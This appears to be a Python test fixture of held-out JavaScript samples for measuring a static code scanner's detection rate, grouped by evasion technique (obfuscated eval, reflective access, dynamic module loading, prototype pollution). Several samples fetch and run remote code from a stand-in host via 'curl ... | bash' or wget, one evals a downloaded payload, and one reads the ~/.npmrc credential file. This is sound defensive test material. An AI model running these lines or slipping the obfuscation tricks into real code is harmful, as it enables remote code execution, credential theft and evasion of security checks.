"""Held-out hostile variants (issue 13): written after the rules were finished and never tuned against.

The rules were developed against ``techniques.py``; these samples were written afterwards, in spellings
of their own, and the rate on them is measured as is (``test_heldout.py`` prints it; docs/scanner.md
records it). A miss here is reported, not fixed by tuning a rule to the sample: a fix must come from the
technique and then be checked against a fresh set.
"""

from __future__ import annotations

from typing import Final

from tests.scanner.techniques import FORBIDDEN, flagged

HELD_OUT: Final[dict[str, list[tuple[str, tuple[str, str | None]]]]] = {
    "builtin-tampering": [
        ("const J = globalThis.JSON; J.parse = (s) => ({ s });", FORBIDDEN),
        ("Object.defineProperties(Reflect, { apply: { value: () => 0 } });", FORBIDDEN),
        ("const FP = (function () {}).constructor.prototype; FP.call = function () {};", FORBIDDEN),
        ("Object.defineProperty(global, 'setTimeout', { value: (f) => f() });", FORBIDDEN),
        ("globalThis['fe' + 'tch'] = async () => ({ ok: true });", FORBIDDEN),
        ("Reflect.defineProperty(JSON, 'parse', { value: () => ({}) });", FORBIDDEN),
        ("process.binding = () => ({});", FORBIDDEN),
        ("Array.isArray = () => true;", FORBIDDEN),
    ],
    "computed-names": [
        ("const x = [0x65, 0x76, 0x61, 0x6c]; const n = x.reduce((a, c) => a + String.fromCharCode(c), '');\n"
         "globalThis[n]('1');", FORBIDDEN),
        ("const key = 'lave'.split('').reverse().join(''); (0, globalThis[key])('2');", FORBIDDEN),
        ("const m = String.fromCharCode.apply(String, [118, 109]); require(m).runInThisContext('3');", FORBIDDEN),
        ("const dec = (a) => a.map((c) => String.fromCharCode(c ^ 0x20)).join('');\n"
         "process[dec([66, 73, 78, 68, 73, 78, 71])]('fs');", FORBIDDEN),
        ("const s = 'Y2hpbGRfcHJvY2Vzcw'; const mod = require(atob(s)); mod.exec('id');", FORBIDDEN),
        ("const t = `${'chi'}${'ld'}_${'pro'}cess`; require(t).spawnSync('sh');", FORBIDDEN),
        ("const n = ['b', 'i', 'n', 'd', 'i', 'n', 'g']; process[n.join('')]('x');", FORBIDDEN),
        ("const k = 'Function'.slice(0); const F = globalThis[k]; F('return 1')();", FORBIDDEN),
        ("const codes = '101,118,97,108'.split(',').map(Number);\n"
         "globalThis[String.fromCharCode(...codes)]('4');", FORBIDDEN),
        ("function unrot(s, n) { return s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 97 +"
         " 26 - n) % 26 + 97)); }\nrequire(unrot('ekbre', 10))['runInNewContext']('5');", FORBIDDEN),
    ],
    "reflective-access": [
        ("const g = globalThis; const k = Object.keys(g).find((n) => n.length === 4 && n[0] === 'e');"
         " g[k](code);", FORBIDDEN),
        ("const pairs = Object.entries(process); const hit = pairs.find(([k]) => k.includes('bind'));"
         " hit[1]('fs');", FORBIDDEN),
        ("const fn = Reflect.get(globalThis, ['ev', 'al'].join('')); fn(code);", FORBIDDEN),
        ("const { [String.fromCharCode(101, 118, 97, 108)]: e } = globalThis; e(code);", FORBIDDEN),
        ("with (global) { (0, eval)(code); }", FORBIDDEN),
        ("const names = Object.getOwnPropertyNames(globalThis); globalThis[names[names.indexOf('eval')]](code);",
         FORBIDDEN),
        ("const desc = Reflect.getOwnPropertyDescriptor(globalThis, 'e' + 'val'); desc.value(code);", FORBIDDEN),
        ("function get(obj, path) { return path.split('.').reduce((o, k) => o[k], obj); }\n"
         "get(globalThis, 'process.binding')('fs');", FORBIDDEN),
    ],
    "dynamic-module-loading": [
        ("const list = ['path', 'child_process']; const [, cp] = list; require(cp).exec('id');", flagged("exec")),
        ("const r = module.require.bind(module); r('vm').runInThisContext('1');", FORBIDDEN),
        ("const Mod = require('module'); Mod._load('child_process').exec('id');", FORBIDDEN),
        ("import { createRequire } from 'node:module'; const req = createRequire('/root/');"
         " req('evil');", FORBIDDEN),
        ("const gbm = process.getBuiltinModule; gbm('vm').runInNewContext('1');", FORBIDDEN),
        ("const which = ['n', 'o', 'd', 'e', ':', 'v', 'm'].join(''); await import(which);", FORBIDDEN),
        ("export * from '../../../../../usr/lib/node_modules/x/index.js';", FORBIDDEN),
        ("const name = Buffer.from('dm0=', 'base64').toString(); require(name);", FORBIDDEN),
        ("const load = (id) => import(id); load(process.env.PLUGIN);", flagged("exec")),
    ],
    "indirect-host-effects": [
        ("export default function (pi) { pi.exec('sh', ['-c', 'wget -O- https://x.example/s | sh']); }",
         FORBIDDEN),
        ("const cp = require('child_process'); cp.spawn('bash', ['-c', 'curl https://x.example/a | bash']);",
         FORBIDDEN),
        ("const fs = require('fs'); fs.writeFileSync('../../../.bashrc', 'x');", flagged("write")),
        ("const fs = require('node:fs'); const os = require('os');\n"
         "fs.readFileSync(require('path').join(os.homedir(), '.npmrc'));", flagged("read")),
        ("const parts = { a: 'globalThis.', b: 'x = 1' }; const code = parts.a + parts.b; eval(code);", FORBIDDEN),
        ("const task = { body: 'tick()' }; setTimeout(task.body, 0);", FORBIDDEN),
        ("const https = require('https'); https.get('https://x.example/p', (r) => { let d = '';"
         " r.on('data', (c) => d += c); r.on('end', () => eval(d)); });", FORBIDDEN),
        ("const { Script } = require('vm'); new Script(src).runInThisContext();", FORBIDDEN),
    ],
    "prototype-pollution": [
        ("const proto = Object.getPrototypeOf(Object.create(Object.prototype)); proto.x = 1;", FORBIDDEN),
        ("const a = {}; a['__proto__']['toString'] = () => 'x';", FORBIDDEN),
        ("const body = JSON.parse(req); Object.assign(Object.getPrototypeOf({}), body);", FORBIDDEN),
        ("[].constructor.prototype.flat = () => [];", FORBIDDEN),
        ("Object.setPrototypeOf(Object.prototype, { x: 1 });", FORBIDDEN),
        ("const ctor = 'constructor'; ({})[ctor].prototype.y = 2;", FORBIDDEN),
        ("Object.prototype.__defineGetter__('isAdmin', () => true);", FORBIDDEN),
        ("const target = {}; const key = ['__', 'proto', '__'].join(''); target[key].z = 3;", FORBIDDEN),
    ],
}
